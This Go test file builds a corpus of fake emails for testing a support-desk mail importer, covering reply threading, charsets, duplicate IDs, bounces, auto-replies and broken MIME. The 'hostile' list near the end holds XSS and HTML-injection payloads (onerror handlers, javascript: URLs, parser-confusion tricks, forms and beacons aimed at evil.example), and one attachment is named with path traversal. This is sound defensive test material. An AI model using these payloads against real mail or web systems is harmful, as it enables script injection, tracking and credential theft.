package email_test

import (
	"encoding/base64"
	"fmt"
	"mime"
	"mime/quotedprintable"
	"strings"
)

// A step of the corpus: a mail that arrives, or something an agent does. Its name
// says in which ticket it belongs, as 017-T4-reply-under-another-subject.eml:
// mails of one label, and no others, share a ticket. {{...}} in a mail stands for
// what only the running desk knows:
//
//	{{reply T4}}   the signed reply address of the ticket
//	{{sent T4}}    the Message-ID of what we sent last in it
//	{{message T4}} the id of that message
//	{{number T4}}  its number
//	{{mib 25}}     an attachment's lines, that many MiB of base64
//
// A mail whose name has "to-billing" comes to the second mailbox. Names that end
// in .do are acts: "reply", "solve" or "close".
type step struct{ name, text string }

// label is the ticket of a step.
func (s step) label() string { return strings.Split(s.name, "-")[1] }

func (s step) mail() bool { return strings.HasSuffix(s.name, ".eml") }

// of reports whether the name has a word.
func (s step) of(word string) bool { return strings.Contains(s.name, word) }

// perRound is how many mails a round has; everyRound how many there are.
const (
	perRound   = 68
	everyRound = 5
	labels     = 100 // of a round, at most
)

// round is one telling of all scenarios, with people of its own.
type round struct {
	n     int
	mails int
	steps []step
}

// corpus returns the first so many rounds.
func corpus(rounds int) (all []step) {
	for n := range rounds {
		r := &round{n: n}
		r.tell()
		all = append(all, r.steps...)
	}
	return all
}

func (r *round) who(name string) string { return fmt.Sprintf("%s.%d@player.example", name, r.n) }

// id is a Message-ID of a player's program.
func (r *round) id(name string) string { return fmt.Sprintf("<%s.%d@mail.player.example>", name, r.n) }

func (r *round) label(n int) string { return fmt.Sprintf("T%d", r.n*labels+n) }

// in replaces T4 by the label of this round.
func (r *round) in(text string) string {
	for _, key := range []string{"reply", "sent", "message", "number"} {
		parts := strings.Split(text, "{{"+key+" T")
		for i := range parts[1:] {
			number, rest, _ := strings.Cut(parts[i+1], "}}")
			var n int
			_, _ = fmt.Sscan(number, &n)
			parts[i+1] = strings.TrimPrefix(r.label(n), "T") + "}}" + rest
		}
		text = strings.Join(parts, "{{"+key+" T")
	}
	return text
}

// mail adds a mail of the lines given. An empty line ends the header.
func (r *round) mail(ticket int, what string, lines ...string) {
	r.mails++
	r.steps = append(r.steps, step{
		fmt.Sprintf("%03d-%s-%s.eml", r.n*perRound+r.mails, r.label(ticket), what), r.in(strings.Join(lines, "\r\n") + "\r\n"),
	})
}

// act adds what an agent does.
func (r *round) act(ticket int, what string) {
	r.steps = append(r.steps, step{fmt.Sprintf("%03d%c-%s-%s.do", r.n*perRound+r.mails, 'a'+len(r.steps)%20, r.label(ticket), what), what})
}

// head are the usual first lines of a mail from somebody.
func (r *round) head(from, id, subject string, more ...string) []string {
	h := []string{
		"Return-Path: <" + from + ">", "Received: from mail.player.example by mx.casino.example; Mon, 2 Nov 2026 10:00:00 +0100",
		"From: " + strings.ToUpper(from[:1]) + from[1:strings.Index(from, ".")] + " <" + from + ">", "To: support@casino.example",
		"Subject: " + subject, "Date: Mon, 2 Nov 2026 10:00:00 +0100",
	}
	if id != "" {
		h = append(h, "Message-ID: "+id)
	}
	return append(append(h, "MIME-Version: 1.0"), more...)
}

// plain is head with a plain body.
func plain(head []string, body ...string) []string {
	return append(append(head, "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", ""), body...)
}

func to(head []string, address string) []string {
	for i := range head {
		if strings.HasPrefix(head[i], "To: ") {
			head[i] = "To: " + address
		}
	}
	return head
}

// tell is all scenarios.
func (r *round) tell() {
	r.threads()
	r.charsets()
	r.identities()
	r.multiparts()
	r.machines()
	r.newsletters()
	r.subjects()
	r.broken()
	r.attacks()
}

func (r *round) threads() {
	alice, bob, carol, kim := r.who("alice"), r.who("bob"), r.who("carol"), r.who("kim")
	r.mail(1, "new", plain(r.head(alice, r.id("a1"), "Retrait bloqué"), "Bonjour, mon retrait est bloqué depuis lundi.")...)
	r.act(1, "reply")
	r.mail(1, "reply-to-the-signed-address", plain(to(r.head(alice, r.id("a2"), "Re: Retrait bloqué", "In-Reply-To: <{{sent T1}}>",
		"References: "+r.id("a1")+" <{{sent T1}}>"), "{{reply T1}}"), "Toujours rien.", "", "> Bonjour")...)
	r.mail(1, "reply-by-references-alone", plain(r.head(alice, r.id("a3"), "Re: Retrait bloqué", "References: "+r.id("a1")+" <{{sent T1}}>"), "Et alors ?")...)
	r.mail(1, "reply-by-number-alone", plain(r.head(alice, r.id("a4"), "Question [#{{number T1}}]"), "Je relance.")...)
	r.mail(1, "reply-by-subject-alone", plain(r.head(alice, r.id("a5"), "RE: TR: Retrait  bloqué"), "Encore moi.")...)
	r.mail(2, "same-sender-another-subject", plain(r.head(alice, r.id("a6"), "Bonus de bienvenue"), "Où est mon bonus ?")...)
	r.mail(3, "same-subject-another-sender", plain(r.head(bob, r.id("b1"), "Retrait bloqué"), "Moi aussi.")...)
	r.mail(4, "number-of-another-guessed", plain(r.head(bob, r.id("b2"), "Compte [#{{number T1}}]"), "Montrez-moi ce dossier.")...)
	r.mail(5, "references-of-another-person", plain(r.head(carol, r.id("c1"), "Re: Retrait bloqué", "In-Reply-To: <{{sent T1}}>"), "Je suis sa femme.")...)
	r.mail(5, "reply-of-that-other-person", plain(r.head(carol, r.id("c2"), "Re: Retrait bloqué", "In-Reply-To: "+r.id("c1")), "Vous avez reçu ?")...)
	r.mail(1, "signed-address-from-another-account", plain(to(r.head(kim, r.id("k1"), "Re: Retrait bloqué"), "{{reply T1}}"), "Alice m'a transmis votre courriel.")...)
	r.mail(35, "forged-reply-address", plain(to(r.head(kim, r.id("k2"), "Dossier"), "support+t{{number T2}}.00000000@casino.example"), "Ouvrez.")...)
}

func (r *round) charsets() {
	dora := r.who("dora")
	var qp strings.Builder
	w := quotedprintable.NewWriter(&qp)
	_, _ = w.Write([]byte("D\xe9j\xe0 v\xe9rifi\xe9.")) // ISO 8859-1
	_ = w.Close()
	r.mail(6, "latin-1-quoted-printable", append(r.head(dora, r.id("d1"), mime.QEncoding.Encode("iso-8859-1", "V\xe9rification"),
		"Content-Type: text/plain; charset=iso-8859-1", "Content-Transfer-Encoding: quoted-printable"), "", qp.String())...)
	r.mail(7, "utf-8-base64", append(r.head(dora, r.id("d2"), mime.BEncoding.Encode("utf-8", "Pièce d’identité"),
		"Content-Type: text/plain; charset=\"UTF-8\"", "Content-Transfer-Encoding: base64"), "", base64.StdEncoding.EncodeToString([]byte("Voilà ma pièce d’identité.")))...)
	r.mail(8, "windows-1252-8bit", append(r.head(dora, r.id("d3"), "Euro",
		"Content-Type: text/plain; charset=windows-1252", "Content-Transfer-Encoding: 8bit"), "", "Il manque 50 \x80 sur l\x92argent d\xe9pos\xe9.")...)
	r.mail(9, "unknown-charset", append(r.head(dora, r.id("d4"), "Inconnu", "Content-Type: text/plain; charset=x-klingon"), "", "Caf\xe9.")...)
	r.mail(10, "raw-letters-in-the-header", plain(r.head(dora, r.id("d5"), "D\xe9p\xf4t perdu"), "Dépôt perdu.")...)
}

func (r *round) identities() {
	erin, frank, gina := r.who("erin"), r.who("frank"), r.who("gina")
	without := plain(r.head(erin, "", "Sans identifiant"), "Ce courriel n’a pas d’identifiant.")
	r.mail(11, "no-message-id", without...)
	r.mail(11, "no-message-id-the-same-again", without...)
	r.mail(12, "no-message-id-another-mail", plain(r.head(erin, "", "Autre sujet"), "Un autre.")...)
	again := plain(r.head(frank, r.id("used-twice"), "Premier"), "Le premier.")
	r.mail(13, "message-id-that-is-used-twice", again...)
	r.mail(14, "message-id-used-by-another-person", plain(r.head(gina, r.id("used-twice"), "Second"), "Le second.")...)
	r.mail(13, "delivered-again", append([]string{"Received: from mx.casino.example by mx2.casino.example"}, again...)...)
	r.mail(14, "message-id-used-again-by-him", plain(r.head(gina, r.id("used-twice"), "Re: Second"), "La suite, sous le même identifiant.")...)
	both := plain(to(r.head(gina, r.id("g1"), "Aux deux"), "support@casino.example, billing@casino.example"), "À vous deux.")
	r.mail(15, "to-two-mailboxes", both...)
	r.mail(15, "the-same-to-billing", append([]string{"Delivered-To: billing@casino.example"}, both...)...)
}

// pixel is a GIF of one point.
const pixel = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

func (r *round) multiparts() {
	hugo := r.who("hugo")
	r.mail(16, "nested-with-inline-picture", append(r.head(hugo, r.id("h1"), "Capture", `Content-Type: multipart/mixed; boundary="m"`), "",
		"--m", `Content-Type: multipart/related; boundary="r"`, "", "--r", `Content-Type: multipart/alternative; boundary="a"`, "",
		"--a", "Content-Type: text/plain; charset=utf-8", "", "Voir la capture.", "--a", "Content-Type: text/html; charset=utf-8", "",
		`<p>Voir la <b>capture</b>. <img src="cid:pic@x"></p>`, "--a--", "--r", "Content-Type: image/gif; name=p.gif", "Content-ID: <pic@x>",
		"Content-Disposition: inline", "Content-Transfer-Encoding: base64", "", pixel, "--r--",
		"--m", `Content-Type: application/pdf; name="../../etc/facture.pdf"`, "Content-Disposition: attachment", "Content-Transfer-Encoding: base64", "",
		"JVBERi0xLjQK", "--m--")...)
	deep := r.head(hugo, r.id("h2"), "Profond", `Content-Type: multipart/mixed; boundary="d0"`)
	deep = append(deep, "")
	for i := range 8 {
		deep = append(deep, fmt.Sprintf("--d%d", i), fmt.Sprintf(`Content-Type: multipart/mixed; boundary="d%d"`, i+1), "")
	}
	deep = append(deep, "--d8", "Content-Type: text/plain", "", "Au fond.")
	for i := 8; i >= 0; i-- {
		deep = append(deep, fmt.Sprintf("--d%d--", i))
	}
	r.mail(17, "nested-eight-deep", deep...)
	r.mail(18, "attachment-alone", append(r.head(hugo, r.id("h3"), "Pièce", "Content-Type: image/gif", "Content-Disposition: attachment; filename*=utf-8''pi%C3%A8ce.gif",
		"Content-Transfer-Encoding: base64"), "", pixel)...)
	r.mail(19, "forwards-a-mail-of-another-thread", append(r.head(hugo, r.id("h4"), "Fwd: Retrait bloqué", `Content-Type: multipart/mixed; boundary="f"`), "",
		"--f", "Content-Type: text/plain", "", "Pour information.", "--f", "Content-Type: message/rfc822", "", "Message-ID: "+r.id("a1"),
		"In-Reply-To: <{{sent T1}}>", "From: alice@player.example", "", "Bonjour", "--f--")...)
	r.mail(20, "html-alone", append(r.head(hugo, r.id("h5"), "Belle page", "Content-Type: text/html; charset=utf-8"), "", "<h1>Bonjour</h1><p>Tout en HTML.</p>")...)
	r.mail(37, "large", append(r.head(hugo, r.id("h6"), "Vidéo", `Content-Type: multipart/mixed; boundary="v"`), "",
		"--v", "Content-Type: text/plain", "", "Voici la vidéo.", "--v", "Content-Type: video/mp4; name=v.mp4", "Content-Transfer-Encoding: base64", "",
		fmt.Sprintf("{{mib %d}}", max(1, 25-24*r.n)), "--v--")...) // 25 once
}

// report is a delivery report (RFC 3464).
func (r *round) report(returned, action, status string) []string {
	form, headers := "message/delivery-status", "text/rfc822-headers"
	if r.n%2 == 1 { // RFC 6533
		form, headers = "message/global-delivery-status", "message/global"
	}
	daemon := fmt.Sprintf("MAILER-DAEMON@mx%d.example", r.n)
	return []string{
		"Return-Path: <>", "From: Mail Delivery System <" + daemon + ">", "To: support@casino.example", "Subject: Undelivered Mail Returned to Sender",
		"Message-ID: " + r.id(fmt.Sprintf("dsn-%d", r.mails)), "Auto-Submitted: auto-replied", "MIME-Version: 1.0",
		`Content-Type: multipart/report; report-type=delivery-status; boundary="b"`, "", "--b", "Content-Type: text/plain", "", "I could not deliver it.",
		"--b", "Content-Type: " + form, "", "Reporting-MTA: dns; mx.example", "", "Final-Recipient: rfc822; nobody@player.example",
		"Action: " + action, "Status: " + status, "Diagnostic-Code: smtp; 550 no such user",
		"--b", "Content-Type: " + headers, "", "Message-ID: " + returned, "Subject: x", "--b--",
	}
}

func (r *round) machines() {
	ivan, judy := r.who("ivan"), r.who("judy")
	r.mail(21, "new", plain(r.head(ivan, r.id("i1"), "Dépôt"), "Mon dépôt n'est pas arrivé.")...)
	r.act(21, "reply")
	r.mail(21, "automatic-bounce-delayed", r.report("<{{sent T21}}>", "delayed", "4.4.1")...)
	r.mail(21, "automatic-bounce-failed", r.report("<{{sent T21}}>", "failed", "5.1.1")...)
	r.mail(22, "automatic-bounce-of-a-mail-that-is-not-ours", r.report("<unknown@elsewhere.example>", "failed", "5.1.1")...)
	r.mail(23, "automatic-null-return-path", "Return-Path: <>", fmt.Sprintf("From: old-daemon%d@mx.example", r.n), "To: support@casino.example",
		"Subject: failure notice", "Message-ID: "+r.id("null"), "", "Hi. This is the program. I am sorry.")
	r.mail(24, "new", plain(r.head(judy, r.id("j1"), "Limite de dépôt"), "Je voudrais une limite.")...)
	r.act(24, "reply")
	r.mail(24, "automatic-out-of-office", plain(r.head(judy, r.id("j2"), "Réponse automatique : Re: Limite de dépôt", "Auto-Submitted: auto-replied",
		"In-Reply-To: <{{sent T24}}>"), "Je suis absente.")...)
	r.mail(24, "automatic-loop-of-our-own-mail", plain(append(r.head(r.who("support"), "<{{sent T24}}>", "Re: Limite de dépôt"), "X-Pickup-Message: {{message T24}}"), "Bonjour")...)
	own := []string{"From: support@casino.example", "To: support@casino.example", fmt.Sprintf("Subject: Copie %d", r.n)}
	r.mail(30, "automatic-loop-from-our-own-address", append(append([]string{"Message-ID: " + r.id("own1")}, own...), "", "Copie.")...)
	r.mail(30, "automatic-loop-from-our-own-address-again", append(append([]string{"Message-ID: " + r.id("own2")}, own...), "", "Copie encore.")...)
	r.mail(26, "automatic-bulk", plain(r.head(r.who("shop"), r.id("s1"), "Soldes", "Precedence: bulk"), "Achetez.")...)
	r.mail(27, "automatic-generated", plain(r.head(r.who("monitor"), r.id("m1"), "Alerte", "Auto-Submitted: auto-generated"), "Disque plein.")...)
	r.mail(29, "automatic-wish-for-silence", plain(r.head(r.who("exchange"), r.id("x1"), "Compte rendu", "X-Auto-Response-Suppress: All"), "Rendu.")...)
}

func (r *round) newsletters() {
	list, liam, mona := r.who("news"), r.who("liam"), r.who("mona")
	letter := []string{"List-Id: <news.player.example>", "List-Unsubscribe: <mailto:x@player.example>"}
	r.mail(25, "automatic-newsletter", plain(r.head(list, r.id("n1"), "Lettre de novembre", letter...), "Les nouvelles.")...)
	r.mail(25, "automatic-newsletter-again", plain(r.head(list, r.id("n2"), "Lettre de novembre", letter...), "Les nouvelles, suite.")...)
	refs := "References: " + r.id("news-abroad")
	r.mail(28, "reply-to-a-newsletter", plain(r.head(liam, r.id("l1"), "Re: Jackpot", refs), "Suis-je inscrit ?")...)
	r.mail(31, "reply-to-the-same-by-another", plain(r.head(mona, r.id("o1"), "Re: Jackpot", refs), "Et moi ?")...)
	r.mail(28, "reply-again-of-the-first", plain(r.head(liam, r.id("l2"), "Re: Jackpot", refs, "In-Reply-To: "+r.id("news-abroad")), "Alors ?")...)
	r.mail(31, "reply-again-of-the-second", plain(r.head(mona, r.id("o2"), "Re: Re: Jackpot", refs+" "+r.id("o1")), "Alors ??")...)
}

func (r *round) subjects() {
	nora := r.who("nora")
	reply := []string{"In-Reply-To: <{{sent T32}}>", "References: " + r.id("q1") + " <{{sent T32}}>"}
	r.mail(32, "new", plain(r.head(nora, r.id("q1"), "Pari annulé"), "Pourquoi mon pari est-il annulé ?")...)
	r.act(32, "reply")
	r.mail(32, "reply-under-another-subject-while-open", plain(r.head(nora, r.id("q2"), "Autre chose", reply...), "Au fait, mon adresse a changé.")...)
	r.act(32, "solve")
	r.mail(33, "reply-under-another-subject-when-solved", plain(to(r.head(nora, r.id("q3"), "Nouveau problème", reply...), "{{reply T32}}"), "Je ne peux plus jouer.")...)
	r.mail(32, "reply-under-the-same-subject-when-solved", plain(to(r.head(nora, r.id("q4"), "Re: Pari annulé [#{{number T32}}]", reply...), "{{reply T32}}"), "Ce n'est pas réglé !")...)
	r.act(32, "solve")
	r.act(32, "close")
	r.mail(34, "reply-when-closed", plain(to(r.head(nora, r.id("q5"), "Re: Pari annulé", reply...), "{{reply T32}}"), "Je conteste encore.")...)
}

func (r *round) broken() {
	otto := r.who("otto")
	r.mail(38, "multipart-cut-off", append(r.head(otto, r.id("t1"), "Coupé", `Content-Type: multipart/mixed; boundary="c"`), "",
		"--c", "Content-Type: text/plain", "", "Le début est là.", "--c", "Content-Type: image/png; name=x.png", "Content-Transfer-Encoding: base64", "", "iVBORw0KGgo!!!")...)
	r.mail(39, "header-with-lines-that-are-none", append([]string{"this line is no field", "Bad Key : x"}, plain(r.head(otto, r.id("t2"), "Ligne"), "Lisible.")...)...)
	r.mail(40, "unreadable", fmt.Sprintf("\x00\x01\x02\xff no mail at all %d", r.n), "\x00\x00")
	r.mail(41, "multipart-without-boundary", append(r.head(otto, r.id("t3"), "Sans limite", "Content-Type: multipart/mixed"), "", "Du texte quand même.")...)
	r.mail(42, "no-sender", "Subject: Anonyme", "Message-ID: "+r.id("t4"), fmt.Sprintf("To: support@casino.example, x%d@y", r.n), "", "Qui suis-je ?")
	r.mail(43, "base64-that-is-none", append(r.head(otto, r.id("t5"), "Codage", "Content-Type: text/plain", "Content-Transfer-Encoding: base64"), "", "Ceci n'est pas du base64 ;-)")...)
}

// hostile are bodies that try to run, to load, or to leave the page.
var hostile = []string{
	`<script>window.alive=1;fetch('/alive')</script><p onclick="alive=1" onmouseover=alive=1>Un</p><img src=x onerror="alive=1"><svg onload=alive=1><script>alive=1</script></svg>`,
	`<iframe srcdoc="<script>parent.alive=1</script>"></iframe><object data="javascript:alive=1"></object><embed src="//evil.example/x.swf"><a href="javascript:alive=1">Deux</a>` +
		`<a href="java&#10;script:alive=1">Deux</a><a href=" &#1;javascript:alive=1">Deux</a><a href="data:text/html,<script>alive=1</script>">Deux</a>`,
	`<style>@import url(//evil.example/a.css); p{background:url(http://evil.example/b.png)}</style><link rel=stylesheet href="http://evil.example/c.css">` +
		`<p style="background:url(http://evil.example/d.png);behavior:url(x)">Trois</p><table background="http://evil.example/e.png"><tr><td background="//evil.example/f.png">x</td></tr></table>` +
		`<img src="http://evil.example/pixel.png" width=1><img srcset="http://evil.example/g.png 1x"><video src="http://evil.example/h.mp4" autoplay poster="http://evil.example/i.png"></video>`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/"><base href="http://evil.example/"><form action="http://evil.example/"><input name=password autofocus onfocus=alive=1><button formaction="javascript:alive=1">Quatre</button></form>` +
		`<a href="/api/v1/session" target=_top>Quatre</a><a href="//evil.example/" target=opener>Quatre</a>`,
	`<noscript><p title="</noscript><img src=x onerror=alive=1>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alive=1&gt;">` +
		`<xmp><p title="</xmp><svg/onload=alive=1>"></xmp><template><img src=x onerror=alive=1></template><textarea><img title="</textarea><img src=x onerror=alive=1>"></textarea>Cinq`,
	`<p id="x" name=location>Six</p><!--[if gte IE 4]><script>alive=1</script><![endif]--><img src="cid:none" data-remote="javascript:alive=1"><img src='http://evil.example/"onerror=alive=1//'>` +
		`<img alt="<x" src="http://evil.example/j.png"><div><script/src=//evil.example/k.js></script><isindex action=javascript:alive=1><marquee onstart=alive=1>x</marquee><details open ontoggle=alive=1>x</details>`,
}

func (r *round) attacks() {
	for i, body := range hostile {
		eve := r.who(fmt.Sprintf("eve%d", i))
		if r.n%2 == 1 { // in another coat
			body = strings.ReplaceAll(strings.ReplaceAll(body, "<script", "<ScRiPt"), "alive=1", "alive\t=\t1")
		}
		r.mail(50+i, fmt.Sprintf("html-attack-%d", i+1), append(r.head(eve, r.id(fmt.Sprintf("v%d", i)), "Regardez", "Content-Type: text/html; charset=utf-8"), "",
			"<html><body>"+body+"</body></html>")...)
	}
}
